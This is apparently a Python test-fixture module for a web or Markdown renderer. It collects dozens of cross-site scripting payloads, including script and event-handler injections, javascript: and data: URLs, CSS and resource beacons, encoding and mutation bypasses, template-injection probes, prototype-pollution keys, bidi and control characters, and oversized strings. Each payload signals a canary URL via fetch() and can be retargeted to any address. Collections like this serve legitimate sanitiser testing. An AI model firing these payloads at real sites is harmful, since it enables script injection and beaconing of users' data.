"""Texts that run in a page that shows them as anything but text, and tell of it at `CANARY`, where nobody may be heard."""

CANARY = "http://127.0.0.1:1/canary"  # replaced by the address of a server that listens
_HURT = f"window.hurt=1;alert(1);fetch('{CANARY}')"

XSS = (
    f"<script>{_HURT}</script>",
    f"</script><script>{_HURT}</script>",
    f"<!--<script>{_HURT}//--></script>",
    f'"><img src=x onerror="{_HURT}">',
    f"' onmouseover='{_HURT}' autofocus onfocus='{_HURT}",
    f'</p></li></ul><svg onload="{_HURT}"><animate onbegin="{_HURT}" attributeName=x dur=1s>',
    f"</style><style>@import '{CANARY}';body{{background:url({CANARY})}}</style>",
    f'</title></textarea></noscript><iframe srcdoc="<script>parent.{_HURT}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_HURT}"></iframe>',
    f'<a href="javascript:{_HURT}">javascript:alert(1)</a>',
    f'<base href="{CANARY}/"><link rel=stylesheet href="{CANARY}/x.css"><link rel=prefetch href="{CANARY}/y">',
    f'<meta http-equiv="refresh" content="0;url={CANARY}">',
    f'<img src="{CANARY}/pixel.png" srcset="{CANARY}/2x.png 2x"><video poster="{CANARY}/v" src="{CANARY}/w">',
    f'<object data="{CANARY}"></object><embed src="{CANARY}">',
    f'<form action="{CANARY}"><button autofocus formaction="{CANARY}">go</button></form>',
    f'<details open ontoggle="{_HURT}"><summary>x</summary></details>',
    f"${{{_HURT}}}`{{{{constructor.constructor('{_HURT}')()}}}}`",
    f"\\u003cscript\\u003e{_HURT}\\x3c/script\\x3e&lt;script&gt;&#60;script&#62;&amp;",
    f"separators \u2028{_HURT}\u2029 \x85 end",
    "]]><![CDATA[<x/>]]>--><!-- <?php ?> <%= x %>",
    "bidi \u202egnp.exe\u202c \u2066left\u2069 \u200fmark",
    f"\x00<scr\x00ipt>{_HURT}</scr\x00ipt>\x01\x1b[2J",
    "lone \ud83d half \ude00, no characters \ufdd0 \uffff",
    f"+ADw-script+AD4-{_HURT}+ADw-/script+AD4-",
    f"＜script＞{_HURT}＜/script＞ \u00ab<ſcript>\u00bb <İmg src=x onerror={_HURT}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_HURT}&gt;">',
    "__proto__",
    "constructor",
)

# What Markdown makes of texts, and what only a browser minds.
MORE = (
    f"![a picture]({CANARY}/markdown.png) ![another][p]\n\n[p]: {CANARY}/reference.png",
    f"[a link](javascript:{_HURT}) [data](data:text/html,<script>{_HURT}</script>) <javascript:{_HURT}> [ours](/tasks)",
    f"[vb](vbscript:x) [entity](java&#x0A;script:{_HURT}) [tab](java\tscript:{_HURT}) [good](https://example.org/?q=%3Cb%3E)",
    f"<!-- a comment --><style>*{{background:url({CANARY}/css)}}</style>\n\n<script>{_HURT}</script>\n\n# a heading",
    f"```html\n<script>{_HURT}</script>\n```\n\n| a | b |\n|:-|-:|\n| <img src=x onerror={_HURT}> | `</td>` |",
    f"url({CANARY}/u) @import '{CANARY}/i'; expression({_HURT}) -moz-binding:url({CANARY}/b) \\75rl({CANARY}/e)",
    "Z\u0336\u0351\u030a\u0348" + "\u0335\u0321\u0358" * 200 + " a pile",
    "zero\u200bwidth\u2060and\ufeffjoined\u200d \u00ad soft \U000e0041 tag \u3164 filler",
    "\u202ealways \u2067to \u2068the \u202dother \u202eside",
    "\x1b]8;;http://x\x07link\x1b]8;;\x07 \x1b[31mred\x9b0m\x07\x08\r over \x7f",
    "a" * 100_000,
    "กขค" * 20_000,
    "> " * 500 + "deep " + "[" * 500 + "*_" * 500,
    "&lt;b&gt; &amp;amp; &quot; &#0; &#x110000; &nosuch; &copy",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} *{7*7} %00 %3Cscript%3E",
    f'{{"__proto__": {{"hurt": 1}}, "toString": "{_HURT}"}}',
    "toString",
    "hasOwnProperty",
)


def towards(address: str) -> tuple[str, ...]:
    """All of them, telling of it at this address."""
    return tuple(text.replace(CANARY, f"{address}/canary") for text in (*XSS, *MORE))
